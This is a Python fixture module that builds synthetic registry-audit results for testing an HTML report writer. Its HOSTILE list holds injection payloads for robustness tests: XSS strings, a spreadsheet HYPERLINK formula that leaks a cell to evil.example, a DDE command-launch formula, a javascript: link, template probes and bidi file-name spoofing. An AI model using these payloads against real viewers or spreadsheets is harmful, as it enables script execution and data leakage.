"""Builds results of any size, realistic or hostile, without randomness."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

from auditor.findings.fingerprint import fingerprint
from auditor.findings.model import (
    SEVERITY_RANK,
    AppliedWaiver,
    CollectionError,
    Coverage,
    EngineInfo,
    Evidence,
    Finding,
    RemediationRef,
    RemediationText,
    Resource,
    Results,
    RuleInfo,
    RunInfo,
    ScopeCoverage,
    Severity,
    Status,
)
from auditor.findings.ledger import VerdictLedger

TAKEN_AT = "2026-11-24T09:30:00Z"
EARLIER = "2026-09-02T06:00:00Z"

HOSTILE = (
    "<script>window.pwned=1</script>",
    "</script><img src=x onerror=window.pwned=1>",
    "</style><svg onload=window.pwned=1>",
    "\"'><b onmouseover=window.pwned=1>x</b>",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "safe\u202egnp.exe\u2066x\u2069",
    "nul\x00esc\x1b[31mred\x07",
    "zero\u200bwidth\ufeff\u00ad",
    "not a character \uffff\ufffe",
    "line\nbreak\r\nand\u2028more",
    "| pipe | ``` fence `tick` **bold** [link](javascript:alert(1)) @octocat #1 https://evil.example www.evil.example",
    "{{ 7*7 }}{% raw %}${7*7}]]><!--",
    "𝔘nicode ﷽ émoji 🙂 العربية",
)
"""Texts that strangers might write into tags, labels and policies."""

# id, severity, entity, title, group, remediation mode, frameworks, low confidence
_RULES: tuple[tuple[str, str, str, str, str, str, dict[str, list[str]], list[str]], ...] = (
    ("REG-VUL-001", "critical", "image", "Have no critical vulnerability in any image", "vulnerabilities", "manual",
     {"nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5", "SI-2"], "pci-dss-4": ["6.3.1", "6.3.3", "11.3.1"],
      "soc2": ["CC7.1"], "iso-27001-2022": ["A.8.8"], "essential-8": ["E8-1.5"]}, ["essential-8:E8-1.5"]),
    ("REG-ACC-001", "critical", "repository", "Never grant repository access to every principal", "access", "confirm",
     {"nist-800-53r5": ["AC-3", "AC-6", "AC-22"], "soc2": ["CC6.1"], "nist-800-190": ["4.2.3"]}, []),
    ("REG-VUL-002", "high", "image", "Have no high vulnerability above the limit", "vulnerabilities", "manual",
     {"nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5", "SI-2"], "pci-dss-4": ["6.3.3"]}, []),
    ("REG-SIG-001", "high", "image", "Sign every release image", "signing", "manual",
     {"nist-800-190": ["4.1.5"], "nist-800-53r5": ["CM-14"], "slsa": ["distribution"]}, ["slsa:distribution"]),
    ("REG-SCN-001", "high", "repository", "Scan every repository on push or continuously", "scanning", "auto",
     {"aws-fsbp": ["ECR.1"], "nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5"]}, []),
    ("REG-ACC-003", "high", "repository", "Limit cross-account access to trusted accounts and organisations", "access",
     "confirm", {"nist-800-53r5": ["AC-3", "AC-4"], "soc2": ["CC6.1", "CC6.3"]}, []),
    ("REG-IMM-001", "medium", "repository", "Make image tags immutable in every repository", "immutability", "confirm",
     {"aws-fsbp": ["ECR.2"], "nist-800-190": ["4.1.5"], "nist-800-53r5": ["CM-2", "CM-8(1)", "SI-7"],
      "soc2": ["CC8.1"], "pci-dss-4": ["6.5.1"]}, ["nist-800-190:4.1.5", "pci-dss-4:6.5.1"]),
    ("REG-RET-001", "medium", "repository", "Configure a retention policy on every repository", "retention", "confirm",
     {"aws-fsbp": ["ECR.3"], "nist-800-190": ["4.2.2"], "nist-800-53r5": ["CM-2", "SI-12"], "soc2": ["C1.2"]},
     ["soc2:C1.2"]),
    ("REG-ENC-001", "medium", "repository", "Encrypt repositories with a customer-managed key", "encryption", "manual",
     {"aws-fsbp": ["ECR.5"], "nist-800-53r5": ["SC-12", "SC-28"], "pci-dss-4": ["3.5.1"]}, []),
    ("REG-TAG-001", "medium", "repository", "Keep the latest tag out of production repositories", "tags", "confirm",
     {"nist-800-190": ["4.2.2"], "nist-800-53r5": ["CM-2"], "soc2": ["CC8.1"]}, []),
    ("REG-TAG-002", "low", "image", "Give release images a version tag", "tags", "confirm",
     {"nist-800-53r5": ["CM-2", "CM-8"]}, []),
    ("REG-TAG-004", "low", "repository", "Put the required resource tags on every repository", "tags", "auto",
     {"aws-fsbp": ["ECR.4"], "nist-800-53r5": ["CM-8"]}, []),
    ("REG-TAG-003", "info", "image", "Label images with source, revision, version and creation time", "tags", "manual",
     {"nist-800-53r5": ["CM-8"]}, []),
    ("REG-REP-001", "medium", "repository", "Replicate production repositories to another region", "replication",
     "confirm", {"nist-800-53r5": ["CP-6", "CP-9"]}, []),
)  # fmt: skip

_FIX = {
    "auto": "The auditor can set this without breaking a pull or a push: auditor remediate plan shows the call.",
    "confirm": "Review the plan of auditor remediate plan first: pipelines that push again under the same name stop.",
    "manual": "Rebuild on a patched base image, deploy the new digest,\nthen remove the old image when nothing uses it.",
}

_TEAMS = ("payments", "identity", "search", "platform", "checkout", "mobile", "data", "edge")
_APPS = ("api", "worker", "gateway", "web", "migrations", "cron", "proxy", "ingest", "exporter", "admin-console")

_FAILS: dict[str, tuple[str, str, Any]] = {
    "REG-VUL-001": ("{n} critical vulnerabilities: CVE-2026-{c} in openssl 3.0.{m} (fixed in 3.0.18).",
                    "/images/value/{m}/scan/value/counts/value/CRITICAL", 2),
    "REG-VUL-002": ("{n} high vulnerabilities, {m} of them fixable: CVE-2026-{c} in zlib 1.2.{m}.",
                    "/images/value/{m}/scan/value/counts/value/HIGH", 7),
    "REG-ACC-001": ("Statement AllowPull lets every principal pull.", "/repository/access_policy/value/Statement/0",
                    {"Effect": "Allow", "Principal": "*", "Action": ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
                     "Sid": "AllowPull"}),
    "REG-ACC-003": ("Account 999988887777 may push, and is not trusted.", "/derived/access/value/grants/1",
                    {"account": "999988887777", "actions": ["push"]}),
    "REG-SIG-001": ("No signature was found for this release image.", "/images/value/{m}/signatures", []),
    "REG-SCN-001": ("Images are not scanned when they are pushed.", "/repository/scan_on_push/value", False),
    "REG-IMM-001": ("Tags can be overwritten.", "/repository/immutability/value/mode", "none"),
    "REG-RET-001": ("No retention policy is set.", "/repository/retention_policy",
                    {"state": "absent", "source": "ecr:GetLifecyclePolicy", "code": "LifecyclePolicyNotFoundException"}),
    "REG-ENC-001": ("The platform's own key encrypts this repository.", "/repository/encryption/value/type",
                    "platform"),
    "REG-TAG-001": ("The production repository has the tag latest.", "/images/value/{m}/tags", ["latest", "v1.{m}.0"]),
    "REG-TAG-002": ("None of the tags is a version: build-{c}.", "/images/value/{m}/tags", ["build-{c}"]),
    "REG-TAG-003": ("The label org.opencontainers.image.revision is missing.", "/images/value/{m}/labels", {}),
    "REG-TAG-004": ("The resource tags cost-centre and owner are missing.", "/repository/resource_tags/value",
                    {"Name": "app"}),
    "REG-REP-001": ("No replication rule takes this repository to another region.", "/context/registry/replication",
                    []),
}  # fmt: skip


def make_rule(rule_id: str = "REG-RET-001", **over: Any) -> RuleInfo:
    """A rule of the catalogue, with fields replaced."""
    found = next(rule for rule in _RULES if rule[0] == rule_id)
    identity, severity, entity, title, group, mode, frameworks, low = found
    fields: dict[str, Any] = {
        "id": identity,
        "title": title,
        "severity": Severity(severity),
        "frameworks": frameworks,
        "remediation": RemediationText("manual" if mode == "manual" else f"ecr.{group}", mode, _FIX[mode]),
        "description": f"{title}: otherwise a reviewed release\ncan change without anybody seeing it.",
        "group": group,
        "entity": entity,
        "low_confidence": low,
    }
    return RuleInfo(**{**fields, **over})


def make_resource(repository: str = "payments/api", *, digest: str = "", **over: Any) -> Resource:
    """A repository, or an image where `digest` is given."""
    account = over.get("account", "111122223333")
    region = over.get("region", "eu-west-1")
    tail = f"@{digest}" if digest else ""
    fields: dict[str, Any] = {
        "id": f"urn:cr:ecr:{account}:{region}:{repository}{tail}",
        "kind": "image" if digest else "repository",
        "registry": f"{account}.dkr.ecr.{region}.amazonaws.com",
        "account": account,
        "region": region,
        "repository": repository,
        "digest": digest,
    }
    return Resource(**{**fields, **over})


def make_finding(rule: RuleInfo | None = None, resource: Resource | None = None, **over: Any) -> Finding:
    """A failure of `rule` on `resource`, with fields replaced."""
    rule = rule or make_rule()
    resource = resource or make_resource()
    status = over.get("status", Status.FAIL)
    fields: dict[str, Any] = {
        "id": fingerprint(rule.id, resource.id),
        "rule": rule.id,
        "status": status,
        "severity": rule.severity,
        "resource": resource,
        "message": "No retention policy is set.",
        "evidence": [Evidence("/repository/retention_policy/state", "absent")],
        "waiver": make_waiver() if status is Status.WAIVED else None,
        "first_seen": TAKEN_AT,
        "remediation": RemediationRef(rule.remediation.action, rule.remediation.mode),
        "waived_status": "fail" if status is Status.WAIVED else "",
    }
    return Finding(**{**fields, **over})


def make_waiver(**over: Any) -> AppliedWaiver:
    """A waiver that holds."""
    fields: dict[str, Any] = {
        "id": "W-014",
        "reason": "Mirror of a vendor image; the vendor patches it monthly",
        "owner": "platform-security",
        "expires": "2027-03-31",
        "ticket": "SEC-2210",
    }
    return AppliedWaiver(**{**fields, **over})


def make_run(**over: Any) -> RunInfo:
    """A finished run."""
    fields: dict[str, Any] = {
        "id": "5f0f2f0e-52a2-4bb8-9c5c-2f2b6f0b8f11",
        "started_at": "2026-11-24T09:41:07Z",
        "finished_at": "2026-11-24T09:41:12Z",
        "auditor_version": "0.1.0",
        "engine": EngineInfo("embedded", "0.1.0 (regorus 0.9.1)"),
        "snapshot_digest": "sha256:" + hashlib.sha256(b"snapshot").hexdigest(),
        "policy_digest": "sha256:" + hashlib.sha256(b"policy").hexdigest(),
        "config_digest": "sha256:" + hashlib.sha256(b"config").hexdigest(),
        "snapshot_taken_at": TAKEN_AT,
    }
    return RunInfo(**{**fields, **over})


def make_results(
    findings: list[Finding] | None = None,
    *,
    rules: list[RuleInfo] | None = None,
    passed: int = 0,
    scopes: list[ScopeCoverage] | None = None,
) -> Results:
    """Results of the given findings; `passed` more checks passed under the first rule."""
    findings = findings or []
    rules = [make_rule(rule[0]) for rule in _RULES] if rules is None else rules
    ledger = VerdictLedger([rule.id for rule in rules])
    for finding in findings:
        ledger.add(finding.rule, finding.status.value, finding.severity.value)
    if passed:
        ledger.add(rules[0].id, "pass", rules[0].severity.value, passed)
    scopes = [complete_scope()] if scopes is None else scopes
    wanted = sum(scope.wanted for scope in scopes)
    ratio = sum(scope.answered for scope in scopes) / wanted if wanted else 1.0
    coverage = Coverage(ratio=ratio, decided=ledger.decided(), scopes=scopes)
    ordered = sorted(findings, key=lambda one: (SEVERITY_RANK[one.severity], one.rule, one.resource.id))
    return Results(1, make_run(), coverage, ledger.summary(), rules, ordered)


def complete_scope(scope_id: str = "ecr/111122223333/eu-west-1", **over: Any) -> ScopeCoverage:
    """A scope of which everything was read."""
    fields: dict[str, Any] = {
        "id": scope_id,
        "repositories": 12,
        "images": 240,
        "calls": 310,
        "errors": [],
        "wanted": 2100,
        "answered": 2100,
    }
    return ScopeCoverage(**{**fields, **over})


def partial_scope(scope_id: str = "ecr/444455556666/us-east-1") -> ScopeCoverage:
    """A scope where two calls were refused."""
    refused = "User is not authorized to perform this action on the resource"
    errors = [
        CollectionError("ecr:GetRepositoryPolicy", "access_denied", "AccessDeniedException", refused,
                        "/repository/access_policy", 14),
        CollectionError("ecr:DescribeImageScanFindings", "throttled", "ThrottlingException", "Rate exceeded",
                        "/images/value/*/scan", 3),
    ]  # fmt: skip
    return complete_scope(scope_id, errors=errors, wanted=1890, answered=1724, notes=["3 repositories were skipped."])


def realistic_results(count: int, *, repositories: int = 80) -> Results:
    """`count` findings over several accounts, regions, teams and rules of the catalogue."""
    rules = [make_rule(rule[0]) for rule in _RULES]
    findings = [_realistic(index, rules[_pick(index, len(rules))], repositories) for index in range(count)]
    scopes = [
        complete_scope("ecr/111122223333/eu-west-1"),
        complete_scope("ecr/111122223333/us-east-1", repositories=31, images=1204, calls=1510),
        partial_scope("ecr/444455556666/us-east-1"),
    ]
    results = make_results(findings, rules=rules, scopes=scopes)
    ledger = VerdictLedger([rule.id for rule in rules])
    for finding in findings:
        ledger.add(finding.rule, finding.status.value, finding.severity.value)
    for index, rule in enumerate(rules):
        ledger.add(rule.id, "pass", rule.severity.value, 37 + 53 * index)
        ledger.add(rule.id, "not_applicable", rule.severity.value, 3 * index)
    return Results(
        1, results.run, Coverage(results.coverage.ratio, ledger.decided(), scopes), ledger.summary(), rules,
        results.findings,
    )  # fmt: skip


def hostile_results() -> Results:
    """One finding for every hostile text, in every field that strangers write, and one very long one."""
    findings = [_hostile(index, text) for index, text in enumerate((*HOSTILE, "A" * 100_000 + "<end>"))]
    bad = HOSTILE[1] + HOSTILE[10]
    error = CollectionError("ecr:<b>", "access_denied", bad, bad, bad, 2)
    return make_results(findings, scopes=[complete_scope("ecr/<i>x</i>\u202e", errors=[error], answered=2000, notes=[bad])])


def write_html(results: Results, path: Path) -> Path:
    """Write the HTML report of `results` to `path`."""
    from auditor.report.html import HtmlReporter

    with path.open("wb") as out:
        HtmlReporter().write(results, out)
    return path


def _pick(index: int, many: int) -> int:
    return (index * 7919 + index // many) % many


def _realistic(index: int, rule: RuleInfo, repositories: int) -> Finding:
    number = index % repositories
    team, app = _TEAMS[number % len(_TEAMS)], _APPS[(number // len(_TEAMS)) % len(_APPS)]
    suffix = "" if number < 80 else f"-{number // 80}"
    account, region = (("111122223333", "eu-west-1"), ("111122223333", "us-east-1"), ("444455556666", "us-east-1"))[
        number % 3
    ]
    image = rule.entity == "image"
    digest = f"sha256:{hashlib.sha256(f'{index}'.encode()).hexdigest()}" if image else ""
    name = f"{team}/{app}{suffix}" if image or index < repositories * 3 else f"{team}/{app}{suffix}-{index}"
    resource = make_resource(
        name, digest=digest, account=account, region=region,
        tag=f"v{1 + index % 4}.{index % 23}.{index % 7}" if image else "",
    )  # fmt: skip
    message, path, value = _FAILS[rule.id]
    names = {"n": 1 + index % 5, "m": index % 19, "c": 1000 + index * 37 % 9000}
    status = Status.UNKNOWN if index % 9 == 4 else Status.WAIVED if index % 17 == 3 else Status.FAIL
    if status is Status.UNKNOWN:
        call = "ecr:DescribeImageScanFindings" if image else "ecr:GetRepositoryPolicy"
        return make_finding(
            rule, resource, status=status, settle=[call],
            message=f"Cannot tell: the answer was not read (access_denied); {call} would settle it.",
            evidence=[Evidence(path.format(**names), {"state": "unknown", "reason": "access_denied", "source": call})],
        )  # fmt: skip
    known = index % 6 == 1
    return make_finding(
        rule, resource, status=status, message=message.format(**names),
        evidence=[Evidence(path.format(**names), value)],
        first_seen=EARLIER if known else TAKEN_AT, baseline=known and status is Status.FAIL,
    )  # fmt: skip


def _hostile(index: int, text: str) -> Finding:
    rule = make_rule(_RULES[index % len(_RULES)][0])
    status = (Status.FAIL, Status.UNKNOWN, Status.WAIVED)[index % 3]
    resource = make_resource(text, tag=text, id=f"urn:cr:ecr:1:x:{text}", account=text[:40], region=text[:40])
    waiver = make_waiver(id=text, reason=text, owner=text, ticket=text) if status is Status.WAIVED else None
    evidence = [Evidence(f"/images/{text}", text), Evidence("/deep", {"key " + text: [text, None, True]})]
    return make_finding(
        rule, resource, status=status, message=text, evidence=evidence, waiver=waiver, settle=[text], first_seen=text
    )
